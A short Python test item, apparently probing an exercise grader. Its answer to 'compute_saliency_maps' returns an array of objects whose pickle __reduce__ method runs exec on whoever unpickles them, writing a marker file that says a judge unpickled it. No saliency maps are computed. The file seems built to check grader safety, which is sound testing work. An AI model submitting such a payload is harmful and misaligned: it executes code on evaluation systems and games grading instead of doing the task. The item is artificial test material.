# An object that runs code in whoever unpickles it, and leaves a file if anyone does.
# attacks: exchange
# %%
class Payload:
    def __reduce__(self):
        return (exec, ("open('unpickled.txt', 'w').write('a judge unpickled me')",))


# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    maps = np.empty(X.shape[:3], dtype=object)
    maps[:] = Payload()
    return maps
